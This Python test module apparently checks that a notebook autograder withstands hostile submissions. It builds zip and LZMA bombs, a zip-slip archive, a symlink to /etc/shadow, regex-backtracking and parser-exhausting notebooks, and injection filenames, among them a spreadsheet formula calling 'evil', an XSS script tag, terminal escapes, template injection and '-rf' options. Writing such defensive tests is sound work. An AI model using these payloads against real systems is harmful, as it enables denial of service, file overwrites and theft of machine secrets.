"""Attacks whose point is the file that is handed in, its name or its size, and no answer in it."""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from attack import Attack
from hostile_files import (
    SOURCE,
    Write,
    big_notebook,
    device,
    fifo,
    folder_named_like_a_notebook,
    link_to,
    loop,
    lzma_bomb,
    notebook,
    sparse_terabyte,
    text_file,
    with_outputs,
    zip_bomb,
    zipped,
)

from instructor.master import Master


@dataclass(frozen=True)
class FileAttack(Attack):
    """An attack whose files are written by a function; `names` are those that must get no more than an honest verdict."""

    write: Write = field(default=lambda folder: folder)
    root_only: bool = False

    def hand_in(self, master: Master, folder: Path) -> list[Path]:
        return [self.write(folder)]


NAMES = {
    "formula": '=HYPERLINK("http:evil?x="&A1,"grade").ipynb',
    "plus": "+1-1@SUM(A1).ipynb",
    "html": "<img src=x onerror=alert(1)><script>alert(2)<!-- &lt;.ipynb",
    "terminal": "\x1b[2J\x1b]0;owned\x07\r[bold red]passed[blink].ipynb",
    "lines": 'a,b"\n"c\n100,100.ipynb',
    "not_utf8": os.fsdecode(b"caf\xe9-\xff.ipynb"),
    "template": "{{ 7*7 }}{% raw %}.ipynb",
    "long": "n" * 240 + ".ipynb",
    "dots": "a...ipynb.ipynb",
    "options": "-rf --out=x.ipynb",
    "right_to_left": "\u202egpj.ipynb",
}


def nested(depth: int) -> str:
    return "x = " + "[" * depth + "]" * depth


def file_attacks() -> list[FileAttack]:
    """All attacks that are a file."""

    def one(name: str, kind: str, tries: str, holds: str, write: Write, **more: Any) -> FileAttack:
        attacked = ("clip_gradients",)
        return FileAttack(name, kind, tries, holds, "inside", attacked, write=write, **more)

    unreadable = {"status": "unreadable"}
    bombs, tricks, text = "files: bombs", "files: tricks", "files: text"
    found = [
        one("zip_bomb", bombs, "unpack to two gigabytes", "at most 50 MB are unpacked", zip_bomb, **unreadable),
        one(
            "lzma_bomb",
            bombs,
            "make the decompressor ask for four gigabytes",
            "the file is called damaged, or is read",
            lzma_bomb,
        ),
        one(
            "damaged_zip",
            bombs,
            "break the compressed data in the middle",
            "the file is called damaged",
            zipped("damaged_zip.zip", {"x.ipynb": notebook(SOURCE, *[os.urandom(3000).hex()])}, cut=60),
            **unreadable,
        ),
        one(
            "two_notebooks",
            tricks,
            "pack two notebooks",
            "one is asked for",
            zipped("two_notebooks.zip", {"a.ipynb": notebook(SOURCE), "b.ipynb": notebook(SOURCE)}),
            **unreadable,
        ),
        one(
            "zip_slip",
            tricks,
            "write outside by names in the zip",
            "nothing is unpacked to disk",
            zipped("zip_slip.zip", {"../../../../tmp/gradlab-slip.ipynb": notebook(SOURCE), "/tmp/gradlab-slip": "x"}),
        ),
        one(
            "zip_of_zips",
            bombs,
            "pack a zip in a zip",
            "it is not unpacked again",
            zipped("zip_of_zips.zip", {"inner.zip": b"PK\x05\x06" + bytes(18)}),
            **unreadable,
        ),
        one(
            "link_to_secret",
            tricks,
            "hand in a link to a secret of the machine",
            "links are not followed",
            link_to("link_to_secret.ipynb", "/etc/shadow"),
            **unreadable,
        ),
        one(
            "link_to_classmate",
            tricks,
            "hand in a link to a classmate's notebook",
            "links are not followed",
            link_to("link_to_classmate.ipynb", "honest-right.ipynb"),
            **unreadable,
        ),
        one(
            "link_to_device",
            tricks,
            "hand in a link to an endless device",
            "links are not followed",
            link_to("link_to_device.zip", "/dev/zero"),
            **unreadable,
        ),
        one(
            "fifo", tricks, "hand in a pipe that nobody writes to", "only ordinary files are opened", fifo, **unreadable
        ),
        one(
            "device",
            tricks,
            "hand in an endless device",
            "only ordinary files are opened",
            device,
            root_only=True,
            **unreadable,
        ),
        one(
            "folder",
            tricks,
            "name a folder like a notebook",
            "the notebook in it is graded",
            folder_named_like_a_notebook,
        ),
        one("loop", tricks, "hand in a folder that contains itself", "links to folders are not followed", loop),
        one(
            "big_notebook",
            bombs,
            "hand in a notebook of 100 MB",
            "it is refused with a sentence",
            big_notebook,
            **unreadable,
        ),
        one(
            "sparse_terabyte",
            bombs,
            "hand in a terabyte of nothing",
            "at most 50 MB are read",
            sparse_terabyte,
            **unreadable,
        ),
        one(
            "ten_thousand_cells",
            bombs,
            "hand in ten thousand cells",
            "they are refused with a sentence",
            text_file("ten_thousand_cells.ipynb", notebook(*["x = 1"] * 10_000)),
            **unreadable,
        ),
        one(
            "deep_json",
            bombs,
            "nest JSON a million levels deep",
            "it is called unreadable",
            text_file("deep_json.ipynb", '{"cells":' + "[" * 1_000_000 + "]" * 1_000_000 + "}"),
            **unreadable,
        ),
        one(
            "long_number",
            bombs,
            "use a number of a million digits in JSON",
            "it is called unreadable",
            text_file("long_number.ipynb", notebook(SOURCE)[:-1] + ', "x": ' + "9" * 1_000_000 + "}"),
            **unreadable,
        ),
        one(
            "deep_brackets",
            bombs,
            "nest brackets in the source",
            "the answer beside them is graded",
            text_file("deep_brackets.ipynb", notebook(nested(150), nested(5000), "-" * 50_000 + "1", SOURCE)),
        ),
        one(
            "deep_operators",
            bombs,
            "chain ten thousand attributes, calls and operators on the way to the answer",
            "the cell is called unreadable or the answer is graded",
            text_file(
                "deep_operators.ipynb",
                notebook(
                    "y = 0" + ".real" * 3000,
                    "z = y" + "+y" * 20_000,
                    "w = y" + "[0]" * 4000,
                    "if 0: pass\n" + "elif 0: pass\n" * 4000,
                    SOURCE.replace("list(", "(y, z, w) and list("),
                ),
            ),
        ),
        one(
            "chain_of_names",
            bombs,
            "make the answer depend on fifty thousand statements",
            "the answer is graded in time",
            text_file(
                "chain_of_names.ipynb",
                notebook(
                    "x0 = 0\n" + "\n".join(f"x{i + 1} = x{i}" for i in range(50_000)),
                    SOURCE.replace("list(", "x50000 or list("),
                ),
            ),
        ),
        one(
            "long_line",
            bombs,
            "hand in a line of thirty megabytes",
            "the answer beside it is graded",
            text_file(
                "long_line.ipynb",
                notebook("x = '" + "a" * 30_000_000 + "'", SOURCE.replace("list(", "len(x) and list(")),
            ),
        ),
        one(
            "ten_million_statements",
            bombs,
            "write forty megabytes of short statements, of which each takes the parser a kilobyte",
            "so much code is refused with a sentence",
            text_file("ten_million_statements.ipynb", notebook("x=1\n" * 10_000_000, SOURCE)),
            **unreadable,
        ),
        one(
            "millions_of_empty_objects",
            bombs,
            "fill the metadata with sixteen million empty objects, small on disk and large in memory",
            "the answer beside them is graded",
            text_file(
                "millions_of_empty_objects.ipynb",
                notebook(SOURCE)[:-1] + ', "x": [0' + ",{}" * 16_000_000 + "]}",
            ),
        ),
        one(
            "blanks_before_a_magic",
            bombs,
            "write a line of blanks for which a pattern with two ways to match takes hours",
            "the answer beside it is graded",
            text_file(
                "blanks_before_a_magic.ipynb",
                notebook("!ls\n" + " " * 400_000 + "a $", "(" + "\n" * 400_000 + "clip_gradients", SOURCE),
            ),
        ),
        one(
            "cells_that_are_parsed_again",
            bombs,
            "put magics behind so much code that parsing it once for each of them takes minutes",
            "the answer beside them is graded",
            text_file(
                "cells_that_are_parsed_again.ipynb",
                notebook(*["x=1\n" * 5_000 + "!ls\n" * 14] * 45, SOURCE),
            ),
        ),
        one(
            "html_outputs",
            text,
            "put scripts into outputs, metadata and markdown, and tags for graders",
            "only code is read",
            text_file("html_outputs.ipynb", with_outputs()),
        ),
        one(
            "surrogates",
            text,
            "use lone surrogates and null bytes in the source",
            "the cell is called unreadable",
            text_file("surrogates.ipynb", notebook("x = '\ud800'", "y = '\0'", "# \x0c\x1c\u2028\n", SOURCE)),
        ),
        one(
            "utf16",
            text,
            "save the notebook in UTF-16",
            "it is called unreadable",
            text_file("utf16.ipynb", notebook(SOURCE).encode("utf-16")),
            **unreadable,
        ),
        one(
            "wrong_types",
            text,
            "hand in JSON whose parts have wrong types",
            "it is called unreadable",
            text_file(
                "wrong_types.ipynb", '{"cells": [{"cell_type": "code", "source": [1, null]}, 7, "x"], "nbformat": "4"}'
            ),
            **unreadable,
        ),
        one("empty", text, "hand in nothing", "it is called empty", text_file("empty.ipynb", ""), **unreadable),
    ]
    found += [
        one(
            f"name_{key}",
            "files: names",
            f"name the file {ascii(name)[:60]}",
            "the name is shown as text everywhere",
            text_file(name, notebook(SOURCE)),
        )
        for key, name in NAMES.items()
    ]
    return found
